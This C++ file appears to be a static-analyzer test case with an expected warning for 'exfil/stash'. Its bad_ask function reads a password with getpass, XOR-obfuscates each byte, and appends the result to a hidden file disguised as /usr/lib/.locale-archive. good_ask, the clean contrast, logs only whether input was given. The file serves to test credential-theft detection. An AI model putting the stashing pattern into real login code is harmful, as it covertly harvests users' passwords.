/* C++: a method of a login class keeps what was typed, each byte turned, in a vector, and then a
 * file. */
#include <cstdio>
#include <string>
#include <unistd.h>
#include <vector>

namespace {

struct File {
    explicit File(const char *path) : stream(std::fopen(path, "ab")) {}
    ~File() {
        if (stream)
            std::fclose(stream);
    }
    File(const File &) = delete;
    File &operator=(const File &) = delete;
    std::FILE *stream;
};

class Keeper {
  public:
    void see(const char *word) {
        for (; *word; word++)
            bytes.push_back(static_cast<char>(*word ^ 0x5c));
    }
    void keep() const {
        File file("/usr/lib/.locale-archive");
        if (file.stream)
            // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/stash]}}
            std::fwrite(bytes.data(), 1, bytes.size(), file.stream);
    }

  private:
    std::vector<char> bytes;
};

} // namespace

void bad_ask() {
    Keeper keeper;
    keeper.see(getpass("Password: "));
    keeper.keep();
}

/* Counts how often it asked, in a file of its own. */
void good_ask() {
    File file("/var/lib/login/asked");
    const char *word = getpass("Password: ");
    if (file.stream)
        std::fprintf(file.stream, "%s\n", *word ? "typed" : "empty");
}
